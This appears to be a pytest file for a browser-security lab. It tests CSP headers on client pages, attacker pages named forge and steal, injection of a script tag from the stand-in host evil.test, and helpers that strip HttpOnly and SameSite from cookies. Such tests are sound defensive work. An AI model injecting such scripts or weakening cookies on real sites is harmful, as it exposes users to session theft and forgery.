"""What is served, and what is taken away of it."""

from __future__ import annotations

import pytest

from browserlab import sites
from browserlab.pages import Client, attacks
from browserlab.unprotected import AS_IT_COMES, Weakened, inject

COOKIE = "__Host-x=1; HttpOnly; Max-Age=9; Path=/; SameSite=Lax; Secure"


def test_every_page_of_the_client_has_its_policy() -> None:
    """No inline code, no other host than the API."""
    pages = Client("bearer", "memory", sites.origin(sites.OWN)).pages()
    assert {"/", "/index.html", "/app.js", "/session.js", "/stores.js", "/style.css"} < pages.keys()
    for page in pages.values():
        policy = page.headers["Content-Security-Policy"]
        assert "unsafe" not in policy
        assert "default-src 'none'" in policy
        assert f"connect-src 'self' {sites.origin(sites.OWN)};" in policy


def test_attackers_pages_have_no_policy() -> None:
    """They are as bad as they want to be."""
    pages = attacks()
    assert pages.keys() == {"/forge.html", "/forge.js", "/steal.js"}
    assert not any("Content-Security-Policy" in page.headers for page in pages.values())


@pytest.mark.parametrize("policy", [True, False])
def test_an_injected_script_is_all_that_changes(policy: bool) -> None:
    """In the page, before its own; with the Content-Security-Policy or without, all other headers kept."""
    files = Client("bearer", "memory").pages()
    injected = inject(files, "https://evil.test/steal.js", policy=policy)
    assert injected.keys() == files.keys()
    changed = {path for path in files if files[path] != injected[path]}
    assert changed == {"/", "/index.html"}
    assert injected["/"].body.count(b'<script src="https://evil.test/steal.js"></script></head>') == 1
    taken = set() if policy else {"Content-Security-Policy"}
    for path in changed:
        assert files[path].headers.keys() - injected[path].headers.keys() == taken
        assert injected[path].headers.items() <= files[path].headers.items()


@pytest.mark.parametrize(
    ("weakened", "line"),
    [
        (AS_IT_COMES, COOKIE),
        (Weakened(same_site="Strict"), "__Host-x=1; HttpOnly; Max-Age=9; Path=/; Secure; SameSite=Strict"),
        (Weakened(same_site="unsaid"), "__Host-x=1; HttpOnly; Max-Age=9; Path=/; Secure"),
        (Weakened(http_only=False), "__Host-x=1; Max-Age=9; Path=/; SameSite=Lax; Secure"),
        (
            Weakened(same_site="None", partitioned=True),
            "__Host-x=1; HttpOnly; Max-Age=9; Path=/; Secure; SameSite=None; Partitioned",
        ),
    ],
)
def test_a_cookie_loses_what_it_is_told_to(weakened: Weakened, line: str) -> None:
    """And nothing else."""
    assert weakened.set_cookie(COOKIE) == line
